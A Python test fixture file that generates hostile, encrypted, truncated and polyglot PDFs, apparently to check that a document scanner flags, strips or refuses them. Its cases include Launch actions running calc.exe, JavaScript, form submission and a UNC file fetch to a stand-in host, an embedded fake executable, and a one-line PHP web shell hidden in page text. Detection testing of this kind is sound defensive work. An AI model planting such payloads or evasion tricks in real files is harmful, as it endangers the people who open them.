# ruff: noqa: E501 - a line of a file stays in one piece
"""PDF files that break a parser, run something, or hide something."""

import io
import zipfile
from functools import partial

import pikepdf

from tests.documents import files
from tests.hostile import pdf
from tests.hostile.case import HARMLESS, OPENED, REFUSED, cases

SOUND = files.pdf(pages=3)
PLAIN = pdf.paper()


def action(kind, extra=b""):
    return b"<< /Type /Action /S /%s %s >>" % (kind, extra)


def hidden_launch():
    """The action in a packed object, its name in escapes."""
    paper = files.paper_of()
    paper.pages[0].AA = pikepdf.Dictionary(O=paper.make_indirect(files.LAUNCH))
    written = io.BytesIO()
    paper.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def locked(**options):
    return files.pdf(encryption=pikepdf.Encryption(user="secret", owner="owner", **options))


def archive(name="a.txt", content=b"a"):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr(name, content)
    return written.getvalue()


SCRIPT = b"/JS (app.alert\\(1\\))"
WHERE = ("catalog", "page", "link")
FORBIDDEN = {
    f"pdf that would {kind.decode()} from its {where}": partial(
        pdf.acting, action(kind, extra), where
    )
    for kind, extra in {
        b"Launch": b"/F (calc.exe)",
        b"ImportData": b"/F (a.fdf)",
        b"GoToE": b"/T << /R /C /N (a) >>",
    }.items()
    for where in WHERE
} | {
    "pdf that would Launch from a packed object": hidden_launch,
    "pdf that would Launch by an escaped name": partial(pdf.acting, action(b"#4caunch", b"/F (x)")),
    "pdf that would Launch after something harmless": partial(
        pdf.acting, action(b"GoTo", b"/D [3 0 R /Fit] /Next << /S /Launch /F (x) >>")
    ),
    "pdf that would Launch with spaces": partial(pdf.acting, b"<</S\n\t/Launch/F(x)>>"),
}
DROPPED = {
    **{
        f"pdf with a script in its {where}": partial(
            pdf.acting, action(b"JavaScript", SCRIPT), where
        )
        for where in (*WHERE, "names")
    },
    "pdf that sends its form": partial(
        pdf.acting, action(b"SubmitForm", b"/F (http://192.0.2.1/)")
    ),
    "pdf that opens an address": partial(pdf.acting, action(b"URI", b"/URI (http://192.0.2.1/)")),
    "pdf that opens another file": partial(
        pdf.acting, action(b"GoToR", b"/F (\\\\\\\\192.0.2.1\\\\a.pdf) /D [0 /Fit]")
    ),
    "pdf that plays a film": partial(pdf.acting, action(b"Movie"), "link"),
    "pdf that plays a rendition": partial(pdf.acting, action(b"Rendition", SCRIPT), "link"),
    "pdf with rich media": lambda: pdf.with_page(
        b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"
    ),
    "pdf with an xfa form": lambda: pdf.paper(
        catalog=pdf.CATALOG[:-2] + b"/AcroForm << /Fields [] /XFA 6 0 R >> >>",
        more={
            6: pdf.stream(
                b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>"
            )
        },
    ),
    "pdf with a program attached": lambda: pdf.paper(
        catalog=pdf.CATALOG[:-2]
        + b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >> >>",
        more={6: pdf.stream(b"MZ" + bytes(99))},
    ),
    "pdf with a picture from outside": lambda: pdf.pictured(
        9, 9, b"", b"/F (http://192.0.2.1/a) /FFilter /DCTDecode"
    ),
}
LOCKED = {
    "pdf locked, RC4 40 bits": partial(locked, R=2, aes=False, metadata=False),
    "pdf locked, RC4 128 bits": partial(locked, R=3, aes=False, metadata=False),
    "pdf locked, AES 128": partial(locked, R=4),
    "pdf locked, AES 256": partial(locked, R=6),
}
BROKEN = {
    **{
        f"pdf cut at {share} %": partial(lambda share: SOUND[: len(SOUND) * share // 100], share)
        for share in (1, 5, 10, 20, 30, 40, 50, 60, 70, 80, 90)
    },
    "pdf header alone": lambda: b"%PDF-1.7\n",
    "pdf of noise": lambda: b"%PDF-1.7\n" + bytes(at * 31 % 256 for at in range(9000)),
    "pdf without pages": lambda: pdf.paper(pages=b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "pdf without a catalog": lambda: pdf.paper(catalog=b"<< >>"),
    "pdf whose catalog is a number": lambda: pdf.paper(catalog=b"42"),
    "pdf whose objects are parted": lambda: SOUND[:200] + SOUND[-400:],
    "pdf locked by an unknown way": lambda: pdf.written(
        pdf.usual(), trailer=b"/Encrypt << /Filter /Own /V 9 >> /ID [(a)(a)]"
    ),
}
POLYGLOTS = {
    "pdf before an archive": lambda: PLAIN + archive(),
    "pdf in an archive's comment": lambda: PLAIN[:-6] + b"\n%" + archive() + b"\n%%EOF\n",
    "pdf before a web page": lambda: PLAIN + b"<html><script>alert(1)</script></html>",
    "pdf with a web page in its head": lambda: (
        PLAIN[:9] + b"%<html><script>alert(1)</script></html>\n" + PLAIN[9:]
    ),
    "pdf with a program in its text": lambda: pdf.paper(
        words=b"% <?php system($_GET[0]); ?>\n" + pdf.WORDS
    ),
    "pdf before a program": lambda: PLAIN + b"MZ\x90\0" + bytes(2000),
    "pdf before a photo": lambda: PLAIN + files.picture(),
}
AFTER = {
    "archive before a pdf": lambda: archive() + PLAIN,
    "web page before a pdf": lambda: b"<html><!--" + PLAIN + b"--></html>",
    "program before a pdf": lambda: b"#!/bin/sh\nexit\n" + PLAIN,
    "executable before a pdf": lambda: b"MZ\x90\0" + bytes(200) + PLAIN,
    "shebang and a pdf": lambda: b"#!" + PLAIN,
}

CASES = (
    *cases(FORBIDDEN, "paper.pdf", "infected"),
    *cases(DROPPED, "paper.pdf", OPENED),
    *cases(LOCKED, "paper.pdf", "encrypted"),
    *cases(BROKEN, "paper.pdf", REFUSED),
    *cases(POLYGLOTS, "paper.pdf", HARMLESS),
    *cases(AFTER, "paper.pdf", "wrong_type"),
)
